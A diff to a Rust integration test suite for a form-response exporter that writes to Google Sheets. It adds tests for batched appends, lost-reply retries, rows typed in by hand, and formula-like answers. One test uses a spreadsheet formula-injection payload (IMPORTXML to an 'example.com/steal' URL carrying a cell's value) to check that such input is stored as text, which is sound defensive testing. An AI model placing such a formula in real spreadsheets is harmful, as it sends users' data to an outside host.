@@ -54,7 +54,16 @@ fn fast_google_flags(fake: &FakeSheets, dir: &Path, ledger: &str) -> Vec<String>
 }
 
 async fn start(topics: &RuntimeTopics, flags: &[String]) -> RunningRuntime {
-    let config = topics.config(&[]);
+    start_with_config(topics, flags, &[]).await
+}
+
+/// [`start`] with `config` added to the runtime's flags.
+async fn start_with_config(
+    topics: &RuntimeTopics,
+    flags: &[String],
+    config: &[&str],
+) -> RunningRuntime {
+    let config = topics.config(config);
     let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
     let sheets = Sheets::open(sheets_args(&flags), &config, std::future::pending())
         .await
@@ -200,12 +209,28 @@ impl OneForm {
 
     /// [`OneForm::start`] with `--sheets-linger` set to `linger`.
     async fn start_with_linger(partitions: i32, linger: &str) -> Self {
+        Self::start_full(partitions, linger, &[], &[], false).await
+    }
+
+    /// [`OneForm::start_with_linger`] with the exporter's flags `extra` and the runtime's
+    /// `config` added, the spreadsheet holding the tab `responses` already (a grid of 1000 x 26,
+    /// as a person makes one) when `tab`: then new rows go by `values.append` at once.
+    async fn start_full(
+        partitions: i32,
+        linger: &str,
+        extra: &[&str],
+        config: &[&str],
+        tab: bool,
+    ) -> Self {
         let fake = FakeSheets::start().await;
         let topics = RuntimeTopics::create(partitions).await;
         let producer = TestProducer::new(&topics);
         let dir = tempfile::tempdir().expect("temp dir");
         let form_id = format!("a{}", unique());
         let sheet = fake.create_spreadsheet("A");
+        if tab {
+            fake.add_tab(&sheet, "responses");
+        }
         producer
             .form(&form(
                 &form_id,
@@ -216,7 +241,8 @@ impl OneForm {
         if let Some(at) = flags.iter().position(|f| f == "--sheets-linger") {
             flags[at + 1] = linger.to_owned();
         }
-        let runtime = start(&topics, &flags).await;
+        flags.extend(extra.iter().map(|f| (*f).to_owned()));
+        let runtime = start_with_config(&topics, &flags, config).await;
         OneForm {
             fake,
             topics,
@@ -984,6 +1010,274 @@ async fn a_started_exporter_reads_a_big_sheet_back_once_and_appends_only_new_row
     assert_eq!(rows.len(), EARLIER + 1, "only the new response appended");
     assert!(rows.contains_key("r-new"));
     assert_eq!(fake.read_requests() - reads, 1, "one read-back");
+    runtime.stop().await.expect("clean stop");
+    topics.delete().await;
+}
+
+/// The bytes `rows` take as the `CellData` of an `appendCells` (what a `spreadsheets.batchUpdate`
+/// carries for new rows), at the least: each cell as the exporter's `cell_data` makes it, with its
+/// comma, and each row's `{"values":[...]}`; the request around them not counted.
+fn cell_data_bytes(rows: &[Vec<Value>]) -> usize {
+    rows.iter()
+        .map(|row| {
+            14 + row
+                .iter()
+                .map(|v| {
+                    serde_json::to_string(&formstream_sheets::api::cell_data(v))
+                        .map_or(0, |s| s.len() + 1)
+                })
+                .sum::<usize>()
+        })
+        .sum()
+}
+
+/// A response of [`v1_questions`] with every question answered, as a field team sends them.
+fn full(form_id: &str, id: &str, revision: i32) -> Response {
+    response(
+        form_id,
+        1,
+        id,
+        revision,
+        &[
+            (
+                "name",
+                &format!("Asha Kulkarni {id} r{revision}"),
+                &[],
+                None,
+            ),
+            ("city", "", &["pune"], None),
+            ("langs", "", &["hi", "mr"], None),
+            ("income", "25000", &[], Some(25000.0)),
+        ],
+    )
+}
+
+/// Holds the exporter's writes (every one answered 429) until `rows` more records are in flight
+/// in it, waiting in its batcher, so that they leave in one flush once the quota is back.
+async fn gather_in_one_flush(fake: &FakeSheets, runtime: &RunningRuntime, rows: usize) {
+    eventually(Duration::from_secs(60), "every row waiting", || async {
+        runtime
+            .metric("formstream_processor_records_in_flight", &[])
+            .await
+            >= rows as f64
+    })
+    .await;
+    fake.set_exhausted(false);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_big_flush_goes_by_values_append_in_fewer_writes_than_cell_data_can() {
+    init_logs();
+    const MAX_BYTES: usize = 20_000;
+    const ROWS: usize = 1_500;
+    let OneForm {
+        fake,
+        topics,
+        producer,
+        form: a,
+        sheet,
+        runtime,
+        ..
+    } = OneForm::start_full(
+        1,
+        "100ms",
+        &["--sheets-max-request-bytes", &MAX_BYTES.to_string()],
+        &["--max-in-flight", "10000"],
+        true,
+    )
+    .await;
+    let count = |fake: &FakeSheets| (fake.write_requests() - fake.throttled(), fake.write_bytes());
+
+    // New rows only: the first write waits on 429s while the others gather behind it.
+    let (writes, bytes) = count(&fake);
+    fake.set_exhausted(true);
+    producer.responses(&[(0, full(&a, "r0000", 0))]).await;
+    let items: Vec<(i32, Response)> = (1..ROWS)
+        .map(|i| (0, full(&a, &format!("r{i:04}"), 0)))
+        .collect();
+    producer.responses(&items).await;
+    gather_in_one_flush(&fake, &runtime, ROWS).await;
+    wait_done(&topics, Duration::from_secs(120)).await;
+    let rows = fake.rows(&sheet, "responses");
+    assert_eq!(rows.len(), ROWS + 1, "one row per response, no duplicate");
+    assert_eq!(rows_by_id(&fake, std::slice::from_ref(&sheet)).len(), ROWS);
+    let (writes, bytes) = {
+        let (w, b) = count(&fake);
+        (w - writes, b - bytes)
+    };
+    let cell_data = cell_data_bytes(&rows[1..]);
+    let fewest = cell_data.div_ceil(MAX_BYTES);
+    eprintln!(
+        "new rows: {writes} writes, {bytes} bytes; as CellData at least {fewest} writes, {cell_data} bytes"
+    );
+    assert!(fake.value_appends() >= 2, "the rows went by values.append");
+    assert!(
+        writes < fewest,
+        "{writes} writes where CellData needs at least {fewest}"
+    );
+    assert!(
+        bytes < cell_data,
+        "{bytes} bytes sent, {cell_data} as CellData"
+    );
+    assert!(
+        fake.largest_write() <= MAX_BYTES,
+        "no request over the bound"
+    );
+
+    // Corrections and new rows in one flush: the corrections' write carries new rows too, the
+    // rest go by values.append; still fewer writes than CellData could make it.
+    let (writes, _) = count(&fake);
+    fake.set_exhausted(true);
+    let mut items: Vec<(i32, Response)> = (0..20)
+        .map(|i| (0, full(&a, &format!("r{i:04}"), 1)))
+        .collect();
+    items.extend((ROWS..2 * ROWS).map(|i| (0, full(&a, &format!("r{i:04}"), 0))));
+    producer.responses(&items).await;
+    gather_in_one_flush(&fake, &runtime, items.len()).await;
+    wait_done(&topics, Duration::from_secs(120)).await;
+    let rows = fake.rows(&sheet, "responses");
+    assert_eq!(
+        rows.len(),
+        2 * ROWS + 1,
+        "one row per response, no duplicate"
+    );
+    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
+    for i in 0..2 * ROWS {
+        let expected = i64::from(i < 20);
+        assert_eq!(revision(&by_id[&format!("r{i:04}")]), expected, "r{i:04}");
+    }
+    let writes = count(&fake).0 - writes;
+    let fewest = cell_data_bytes(&rows[ROWS + 1..]).div_ceil(MAX_BYTES);
+    eprintln!("corrections and new rows: {writes} writes; as CellData at least {fewest}");
+    assert!(
+        writes < fewest,
+        "{writes} writes where CellData needs at least {fewest}"
+    );
+    assert!(
+        fake.largest_write() <= MAX_BYTES,
+        "no request over the bound"
+    );
+    runtime.stop().await.expect("clean stop");
+    topics.delete().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_values_append_whose_answer_is_lost_adds_no_row_twice() {
+    init_logs();
+    let OneForm {
+        fake,
+        topics,
+        producer,
+        form: a,
+        sheet,
+        runtime,
+        ..
+    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
+    producer.responses(&[(0, simple(&a, "r00", 0))]).await;
+    wait_done(&topics, Duration::from_secs(60)).await;
+    let appends = fake.value_appends();
+    let reads = fake.read_requests();
+
+    // Applied, then answered 503; then applied, and answered after the exporter's timeout (2 s).
+    let faults = [
+        Fault::FailAfter(503),
+        Fault::SlowAfter(Duration::from_secs(3)),
+    ];
+    for (round, fault) in faults.into_iter().enumerate() {
+        fake.fail_next_writes(1, fault);
+        let items: Vec<(i32, Response)> = (1..=10)
+            .map(|i| (0, simple(&a, &format!("r{round}{i:02}"), 0)))
+            .collect();
+        producer.responses(&items).await;
+        wait_done(&topics, Duration::from_secs(60)).await;
+        assert_eq!(fake.pending_faults(), 0, "the fault was met");
+    }
+    assert!(
+        fake.value_appends() - appends >= 2,
+        "the faulted writes were values.append"
+    );
+    assert!(
+        fake.read_requests() - reads >= 2,
+        "each lost answer was read back"
+    );
+    assert_eq!(rows_by_id(&fake, std::slice::from_ref(&sheet)).len(), 21);
+    assert_eq!(fake.rows(&sheet, "responses").len(), 22, "no row twice");
+    runtime.stop().await.expect("clean stop");
+    topics.delete().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_row_appended_by_another_writer_meanwhile_is_detected_and_read_back() {
+    init_logs();
+    let OneForm {
+        fake,
+        topics,
+        producer,
+        form: a,
+        sheet,
+        runtime,
+        ..
+    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
+    let items: Vec<(i32, Response)> = (0..5)
+        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
+        .collect();
+    producer.responses(&items).await;
+    wait_done(&topics, Duration::from_secs(60)).await;
+
+    // Someone types a row below the exporter's: its next rows land one row lower than it thinks.
+    let typed = vec![
+        Value::from("typed by hand"),
+        Value::from(""),
+        Value::from("a note"),
+    ];
+    fake.append_row(&sheet, "responses", typed.clone());
+    let items: Vec<(i32, Response)> = (5..10)
+        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
+        .collect();
+    producer.responses(&items).await;
+    wait_done(&topics, Duration::from_secs(60)).await;
+    // A correction goes to its row as read back, not to the row the exporter meant (r06's).
+    producer.responses(&[(0, simple(&a, "r07", 1))]).await;
+    wait_done(&topics, Duration::from_secs(60)).await;
+
+    let rows = fake.rows(&sheet, "responses");
+    assert_eq!(rows.len(), 12, "the header, ten rows and the typed one");
+    assert_eq!(rows[6], typed, "the typed row is kept where it was typed");
+    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
+    for i in 0..10 {
+        let id = format!("r{i:02}");
+        let expected = i64::from(i == 7);
+        assert_eq!(revision(&by_id[&id]), expected, "{id}");
+        assert_eq!(by_id[&id][4], format!("name {id} r{expected}"), "{id}");
+    }
+    runtime.stop().await.expect("clean stop");
+    topics.delete().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn an_answer_that_looks_like_a_formula_or_a_number_is_stored_as_its_text() {
+    init_logs();
+    let OneForm {
+        fake,
+        topics,
+        producer,
+        form: a,
+        sheet,
+        runtime,
+        ..
+    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
+    let formula = r#"=IMPORTXML("https://example.com/steal?"&A2,"//a")"#;
+    producer
+        .responses(&[
+            (0, response(&a, 1, "r1", 0, &[("name", formula, &[], None)])),
+            (0, response(&a, 1, "r2", 0, &[("name", "0042", &[], None)])),
+        ])
+        .await;
+    wait_done(&topics, Duration::from_secs(60)).await;
+    assert!(fake.value_appends() >= 1, "written by values.append");
+    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
+    assert_eq!(by_id["r1"][4], Value::from(formula), "the formula as text");
+    assert_eq!(by_id["r2"][4], Value::from("0042"), "the digits as text");
     runtime.stop().await.expect("clean stop");
     topics.delete().await;
 }
